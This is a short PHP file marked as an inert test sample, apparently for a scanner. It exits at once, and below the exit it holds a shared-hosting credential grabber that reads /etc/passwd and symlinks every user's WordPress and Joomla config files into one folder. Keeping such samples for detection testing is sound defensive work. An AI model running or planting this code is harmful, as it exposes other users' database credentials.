<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

@mkdir('configs', 0755);
$users = file('/etc/passwd');
foreach ($users as $line) {
    $parts = explode(':', $line);
    $user = $parts[0];
    @symlink('/home/' . $user . '/public_html/wp-config.php', 'configs/' . $user . '-wordpress.txt');
    @symlink('/home/' . $user . '/public_html/configuration.php', 'configs/' . $user . '-joomla.txt');
}
echo 'done';
